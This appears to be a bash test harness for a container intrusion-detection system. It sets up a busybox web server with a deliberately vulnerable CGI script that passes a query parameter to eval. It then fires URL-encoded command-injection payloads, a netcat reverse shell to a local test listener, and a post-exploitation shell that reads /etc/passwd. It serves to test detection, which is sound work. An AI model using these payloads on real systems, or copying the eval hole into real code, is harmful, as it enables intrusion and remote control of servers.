#!/usr/bin/env bash
# A web server with dynamic pages: busybox httpd and CGI shell scripts, started by a shell
# entrypoint that also rotates the access log and rebuilds a status page on a timer. Load: curl
# from the host (in the container's network namespace) with a mix of static pages, CGI pages
# with query strings, POSTs that write to a data file, idle gaps and parallel clients.
# Attacks through the vulnerable CGI /cgi-bin/files (its "dir" parameter goes through eval):
# command injection writing a file, a dropped script run, a reverse shell to a listener the
# test made; and a post-exploitation shell (runc exec, docker exec or lxc-attach).
source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
SRV_NAME=web
need_cmd curl socat

srv_setup() {
	local w=$1/www
	mkdir -p "$w/cgi-bin" "$w/data/a" "$w/data/b" "$1/var/log"
	echo '<html><body>cids test site</body></html>' >"$w/index.html"
	head -c 20000 /dev/urandom | base64 >"$w/big.txt"
	for f in one two three; do echo "$f" >"$w/data/a/$f.txt"; done
	echo 0 >"$w/data/counter"
	: >"$w/data/notes"
	cat >"$w/cgi-bin/status" <<-'EOF'
	#!/bin/sh
	echo "Content-Type: text/plain"
	echo
	date
	uptime
	df / | tail -1
	cat /www/now.txt 2>/dev/null
	EOF
	cat >"$w/cgi-bin/greet" <<-'EOF'
	#!/bin/sh
	name=$(echo "$QUERY_STRING" | sed -n 's/^name=\([A-Za-z0-9]*\).*/\1/p')
	echo "Content-Type: text/html"
	echo
	echo "<p>Hello, ${name:-stranger}</p>"
	EOF
	# vulnerable: the directory name goes through eval
	cat >"$w/cgi-bin/files" <<-'EOF'
	#!/bin/sh
	dir=$(echo "$QUERY_STRING" | sed 's/^dir=//; s/+/ /g; s/%20/ /g; s/%3B/;/g; s/%3E/>/g; s/%2F/\//g; s/%26/\&/g; s/%7C/|/g; s/%27/'"'"'/g')
	echo "Content-Type: text/plain"
	echo
	eval "ls -l /www/data/$dir"
	EOF
	cat >"$w/cgi-bin/counter" <<-'EOF'
	#!/bin/sh
	n=$(cat /www/data/counter)
	n=$((n + 1))
	echo $n > /www/data/counter
	echo "Content-Type: text/plain"
	echo
	echo "visits: $n"
	EOF
	cat >"$w/cgi-bin/note" <<-'EOF'
	#!/bin/sh
	read -r body
	echo "$(date +%s) $body" | head -c 200 >> /www/data/notes
	echo >> /www/data/notes
	tail -n 50 /www/data/notes > /www/data/notes.tmp && mv /www/data/notes.tmp /www/data/notes
	echo "Content-Type: text/plain"
	echo
	wc -l < /www/data/notes
	EOF
	chmod 0755 "$w"/cgi-bin/*
}

SRV_ENTRY='#!/bin/sh
date > /www/now.txt
httpd -f -p 127.0.0.1:8080 -h /www -vv 2>>/var/log/httpd.log &
srv=$!
trap "kill $srv; wait $srv; exit 0" TERM
i=0
while :; do
	sleep 3 & wait $!
	date > /www/now.txt.new && mv /www/now.txt.new /www/now.txt
	i=$((i + 1))
	if [ $((i % 4)) -eq 0 ]; then
		mv /var/log/httpd.log /var/log/httpd.log.1
	fi
done'

url() { echo "http://127.0.0.1:8080$1"; }
get() { in_ns curl -s -f -m 10 "$@"; }
srv_ready() { get -o /dev/null "$(url /index.html)"; }
srv_probe() { get "$(url /cgi-bin/greet?name=probe)" | has 'Hello, probe'; }

PAGES=(/index.html /big.txt /now.txt /cgi-bin/status "/cgi-bin/greet?name=ann" "/cgi-bin/greet"
	"/cgi-bin/files?dir=a" "/cgi-bin/files?dir=b" /cgi-bin/counter /nope.html)
srv_load_round() {
	local ok=0 bad=0 i n p code
	n=$((3 + $(rnd 10)))
	for ((i = 0; i < n; i++)); do
		p=${PAGES[$(rnd ${#PAGES[@]})]}
		[ "$p" = "/cgi-bin/greet?name=ann" ] && p="/cgi-bin/greet?name=u$(rnd 1000)"
		if [ $(rnd 5) = 0 ]; then
			code=$(in_ns curl -s -o /dev/null -w '%{http_code}' -m 10 \
				--data "note $(rnd 100000)" "$(url /cgi-bin/note)")
		else
			code=$(in_ns curl -s -o /dev/null -w '%{http_code}' -m 10 "$(url "$p")")
		fi
		if [ "$code" = 200 ] || { [ "$p" = /nope.html ] && [ "$code" = 404 ]; }; then
			ok=$((ok + 1))
		else
			bad=$((bad + 1))
		fi
	done
	# parallel clients now and then
	if [ $(rnd 3) = 0 ]; then
		for i in 1 2 3; do get -o /dev/null "$(url /cgi-bin/status)" & done
		wait && ok=$((ok + 3)) || bad=$((bad + 1))
	fi
	echo "ok $ok fail $bad"
}

SRV_ATTACKS="cmd_injection dropped_script reverse_shell post_shell"

inject() { get "$(url "/cgi-bin/files?dir=$1")"; }
srv_attack_cmd_injection() {
	rm -f "$ROOT/tmp/injected"
	inject 'a%3Becho%20pwned%20%3E%2Ftmp%2Finjected'
}
srv_effect_cmd_injection() { [ -e "$ROOT/tmp/injected" ]; }

srv_attack_dropped_script() {
	rm -f "$ROOT/tmp/x.sh" "$ROOT/tmp/dropped-ran"
	# write a script, make it executable, run it: echo 'id>/tmp/dropped-ran'>/tmp/x.sh; ...
	inject 'a%3Becho%20%27id%3E%2Ftmp%2Fdropped-ran%27%3E%2Ftmp%2Fx.sh%3Bchmod%20755%20%2Ftmp%2Fx.sh%3B%2Ftmp%2Fx.sh'
}
srv_effect_dropped_script() { grep -q 'uid=' "$ROOT/tmp/dropped-ran"; }

srv_attack_reverse_shell() {
	rm -f "$TMP/rshell.out"
	# the listener sends one command to whoever connects and records the answer
	(echo 'echo RSHELL-$(id -u)'; sleep 3) | in_ns_for 8 socat -t 3 TCP-LISTEN:14444,bind=127.0.0.1,reuseaddr STDIO >"$TMP/rshell.out" 2>/dev/null &
	local l=$!
	sleep 0.3
	inject 'a%3Bnc%20127.0.0.1%2014444%20-e%20%2Fbin%2Fsh' >/dev/null
	sleep 1
	kill $l 2>/dev/null; wait $l 2>/dev/null
}
srv_effect_reverse_shell() { grep -q 'RSHELL-0' "$TMP/rshell.out"; }

srv_attack_post_shell() {
	rm -f "$ROOT/tmp/post-ok"
	ctr_exec /bin/sh -c 'sleep 1; id; cat /etc/passwd; ls -la /www; ps;
		echo pwned > /tmp/post-ok'
}
srv_effect_post_shell() { [ -e "$ROOT/tmp/post-ok" ]; }

[ "${BASH_SOURCE[0]}" = "$0" ] && srv_main
